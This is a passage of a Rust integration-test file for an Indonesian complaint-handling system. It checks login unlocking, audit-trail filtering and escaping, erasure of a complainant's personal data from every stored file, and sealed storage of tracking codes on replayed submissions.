        receipt.contains("Time limit: 2 to 10 working days after the required documents are declared complete."),
        "the English page's wording: {receipt}"
    );
    assert!(!receipt.contains("hari kerja") && !receipt.contains("Yth."), "{receipt}");
}

#[test]
fn an_anonymous_complaint_gets_no_mail() {
    let dir = tempfile::tempdir().unwrap();
    let staf = Staf::sqlite(&dir.path().join("data/pengaduan.db"));
    let out = staf.ok(MON_16_MARCH, &catat_args(&["--persetujuan", "--email", "ahmad@contoh.co.id", "--anonim"]));
    assert!(!out.contains("Surel"), "{out}");
    assert!(!dir.path().join("data/surel").exists());
}

/// `pengguna buka-kunci` lifts a login lock the console set: every failed login of the account,
/// from every source, is forgotten, the next check is allowed, and the change is audited under
/// the operating-system user.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_admin_lifts_a_login_lock_from_the_command_line() {
    use pengaduan_store::accounts::LoginReservation;
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("pengaduan.db");
    let staf = Staf { root: dir.path().join("kosong"), ..Staf::sqlite(&db) };
    let run = staf.run_with_input(MON_16_MARCH, &["pengguna", "tambah", "budi", "--peran", "jft"], Some(PASSWORD));
    assert_eq!(run.code, 0, "{}", run.stderr);
    let store = SqliteStore::open(&db).unwrap();
    let now: Timestamp = MON_16_MARCH.parse().unwrap();
    for source in ["sumber-a", "sumber-a", "sumber-a", "sumber-a", "sumber-a", "sumber-b"] {
        let r = store.reserve_login_check("budi", source, now).await.unwrap();
        assert!(matches!(r, LoginReservation::Reserved { .. }), "{r:?}");
    }
    let locked = store.reserve_login_check("budi", "sumber-a", now).await.unwrap();
    assert!(matches!(locked, LoginReservation::Refused { .. }), "{locked:?}");

    let out = staf.ok(MON_16_MARCH, &["pengguna", "buka-kunci", "Budi"]);
    assert!(out.contains("Kunci akun budi dibuka"), "{out}");
    assert!(store.login_failures("budi", Timestamp::UNIX_EPOCH).await.unwrap().is_empty(), "every source's");
    let again = store.reserve_login_check("budi", "sumber-a", now).await.unwrap();
    assert!(matches!(again, LoginReservation::Reserved { .. }), "{again:?}");
    let run = staf.run(MON_16_MARCH, &["pengguna", "buka-kunci", "wati"]);
    assert_ne!(run.code, 0);
    assert!(run.stderr.contains("Pengguna wati tidak ditemukan"), "{}", run.stderr);

    let trail = audit_trail(&db).await;
    let changes = entries(&trail, AuditAction::AccountChanged);
    assert_eq!(changes.last().unwrap().3, "pengaduan-staf: buka kunci budi", "{changes:?}");
    let help = Command::new(BIN).args(["pengguna", "buka-kunci", "--help"]).output().unwrap();
    assert!(help.status.success());
    assert!(String::from_utf8(help.stdout).unwrap().contains("Pemakaian: pengaduan-staf pengguna buka-kunci"));
}

/// `audit` prints the trail newest first, narrowed by user, action, complaint and period.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audit_trail_is_printed_and_filtered() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("pengaduan.db");
    let staf = Staf { root: dir.path().join("kosong"), ..Staf::sqlite(&db) };
    let store = SqliteStore::open(&db).unwrap();
    let at = |t: &str| t.parse::<Timestamp>().unwrap();
    let entry = |when: &str, user: &str, action, nomor: Option<&str>, detail: &str| AuditEntry {
        at: at(when),
        username: user.into(),
        role: Some(Role::FrontOffice),
        action,
        nomor: nomor.map(str::to_owned),
        detail: detail.into(),
    };
    for e in [
        entry("2026-01-02T02:00:00Z", "rina", AuditAction::ViewPersonalData, Some("PGD-2026-00001"), "lama"),
        entry("2026-03-13T02:00:00Z", "rina", AuditAction::DownloadAttachment, Some("PGD-2026-00002"), "ktp.pdf"),
        entry("2026-03-13T03:00:00Z", "budi", AuditAction::ViewPersonalData, Some("PGD-2026-00003"), "budi-lihat"),
        entry("2026-03-13T04:00:00Z", "rina", AuditAction::LoginRefused, None, "sumber\u{1b}[31m"),
    ] {
        store.record_audit(e).await.unwrap();
    }
    let all = staf.ok(MON_16_MARCH, &["audit"]);
    assert!(all.starts_with("WAKTU"), "{all}");
    assert!(all.contains("3 catatan") && !all.contains("lama"), "30 days: {all}");
    let newest = all.lines().nth(1).unwrap();
    assert!(newest.contains("Masuk ditolak") && !newest.contains('\u{1b}'), "newest first, controls escaped: {all}");
    let budi = staf.ok(MON_16_MARCH, &["audit", "--pengguna", "Budi"]);
    assert!(budi.contains("budi-lihat") && budi.contains("1 catatan"), "{budi}");
    let views = staf.ok(MON_16_MARCH, &["audit", "--tindakan", "lihat-data-pribadi", "--hari", "90"]);
    assert!(views.contains("lama") && views.contains("budi-lihat") && views.contains("2 catatan"), "{views}");
    let one = staf.ok(MON_16_MARCH, &["audit", "--nomor", "pgd-2026-00002"]);
    assert!(one.contains("ktp.pdf") && one.contains("1 catatan"), "{one}");
    assert!(staf.ok(MON_16_MARCH, &["audit", "--batas", "1"]).contains("1 catatan"));
    let bad = staf.run(MON_16_MARCH, &["audit", "--tindakan", "menari"]);
    assert_ne!(bad.code, 0);
    assert!(bad.stderr.contains("Tindakan \"menari\" tidak dikenal"), "{}", bad.stderr);
}

/// Every file under `dir`, with its bytes.
fn every_file(dir: &Path) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    let mut files = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for entry in std::fs::read_dir(&d).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                todo.push(path);
            } else {
                files.push((path.clone(), std::fs::read(&path).unwrap()));
            }
        }
    }
    files
}

#[test]
fn erasure_leaves_no_copy_in_the_data_folder_not_even_in_the_mail_written_to_files() {
    let dir = tempfile::tempdir().unwrap();
    let staf = Staf::sqlite(&dir.path().join("data/pengaduan.db"));
    let out = staf.ok(MON_16_MARCH, &catat_args(&["--persetujuan", "--email", "ahmad@contoh.co.id"]));
    let (nomor, kode) = number_and_code(&out);
    staf.ok(MON_16_MARCH, &["kembalikan", &nomor, "--alasan", "Lampirkan fotokopi KTP"]);
    // Another complaint's mail stays: erasure is of one complaint.
    let other_args = [
        "catat",
        "--kanal",
        "surat",
        "--jenis",
        "aspirasi",
        "--judul",
        "Jam layanan diperpanjang",
        "--isi",
        "Mohon loket dibuka sampai sore.",
        "--nama",
        "Budi",
        "--email",
        "budi@contoh.co.id",
        "--persetujuan",
    ];
    let other = staf.ok(MON_16_MARCH, &other_args);
    let (other_nomor, _) = number_and_code(&other);
    let mail = dir.path().join("data/surel");
    assert!(mail.join(format!("{nomor}-000001.eml")).exists() && mail.join(format!("{nomor}-000002.eml")).exists());

    let out = staf.ok(FRI_20_MARCH, &["hapus-data-pribadi", &nomor, "--alasan", "Permintaan pengadu"]);
    assert!(out.contains("salinan surel"), "{out}");
    // What identifies the complainant, anywhere in the folder: the database, its WAL, the mail,
    // and the tracking code, which the day-long replay record keeps sealed only.
    // The return's reason is the office's words and stays in the history, as the register's does.
    let bare = kode.replace('-', "");
    let secrets = ["Ahmad Yani", "ahmad@contoh.co.id", "0812 3456 7890", "Antrean izin usaha lama", &kode, &bare];
    for (path, bytes) in every_file(&dir.path().join("data")) {
        let text = String::from_utf8_lossy(&bytes);
        for secret in secrets {
            assert!(!text.contains(secret), "{} still holds {secret:?}", path.display());
        }
    }
    assert!(!mail.join(format!("{nomor}-000001.eml")).exists());
    assert!(mail.join(format!("{other_nomor}-000001.eml")).exists(), "another complaint's receipt is kept");
}

/// Whether any file under `dir` (the database, its WAL, the key file, the mail) holds `code`,
/// as shown or without its hyphens.
fn folder_holds_code(dir: &Path, code: &str) -> Vec<std::path::PathBuf> {
    let bare = code.replace('-', "");
    every_file(dir)
        .into_iter()
        .filter(|(_, bytes)| {
            let text = String::from_utf8_lossy(bytes);
            text.contains(code) || text.contains(&bare)
        })
        .map(|(path, _)| path)
        .collect()
}

#[tokio::test]
async fn replays_answer_with_the_same_code_which_no_file_of_the_database_holds() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("data/pengaduan.db");
    let staf = Staf::sqlite(&db);
    // Recorded twice by the Front Office: the second time is answered from the replay record.
    let first = staf.ok(MON_16_MARCH, &catat_args(&["--persetujuan"]));
    let again = staf.ok(MON_16_MARCH, &catat_args(&["--persetujuan"]));
    assert!(again.contains("sudah dicatat dalam 24 jam terakhir"), "{again}");
    let (nomor, kode) = number_and_code(&first);
    assert_eq!(number_and_code(&again), (nomor.clone(), kode.clone()), "the same number and code");
    // Sent twice through the public form with one key, while the staff tool's connection is open
    // elsewhere: the same answer; no e-mail address, so no receipt holds the code either.
    let site = app(&db, "2026-03-16T02:30:00Z");
    let body = json!({
        "jenis": "pengaduan", "nama": "Siti Rahayu", "telepon": "0812 1111 2222",
        "judul": "Izin usaha belum terbit", "isi": "Permohonan izin saya belum terbit setelah tiga minggu.",
        "pernyataan_kebenaran": true, "persetujuan_data": true
    });
    let post = || {
        Request::builder()
            .method("POST")
            .uri("/api/pengaduan")
            .header("content-type", "application/json")
            .header("idempotency-key", "kunci-segel-0001")
            .body(Bytes::from(body.to_string()))
            .unwrap()
    };
    let web = handle(&site, post(), None).await;
    assert_eq!(web.status(), StatusCode::CREATED);
    let web: Value = serde_json::from_slice(web.body()).unwrap();
    let replayed = handle(&site, post(), None).await;
    assert_eq!(replayed.status(), StatusCode::CREATED);
    assert_eq!(serde_json::from_slice::<Value>(replayed.body()).unwrap(), web, "the same answer");
    let web_code = web["kode_lacak"].as_str().unwrap().to_owned();
    // The codes still find their complaints…
    let status = handle(
        &site,
        Request::builder()
            .uri(format!("/api/lacak?nomor={}&kode={web_code}", web["nomor"].as_str().unwrap()))
            .header("accept", "application/json")
            .body(Bytes::new())
            .unwrap(),
        None,
    )
    .await;
    assert_eq!(status.status(), StatusCode::OK);
    // …and neither is anywhere in the folder: database, write-ahead log (while the handler's
    // connection holds it open, and after), nor anything beside.
    let wal = dir.path().join("data/pengaduan.db-wal");
    assert!(wal.exists(), "the write-ahead log is there to be searched");
    let search = || {
        for code in [&kode, &web_code] {
            let holders = folder_holds_code(&dir.path().join("data"), code);
            assert!(holders.is_empty(), "{code} is in {holders:?}");
        }
    };
    search();
    drop(site);
    search();
    let conn = rusqlite::Connection::open(&db).unwrap();
    let kept: Vec<String> = conn
        .prepare("SELECT receipt FROM idempotency")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert_eq!(kept.len(), 2);
    assert!(kept.iter().all(|r| r.contains("\"kode_lacak\":\"seal1:")), "{kept:?}");
}
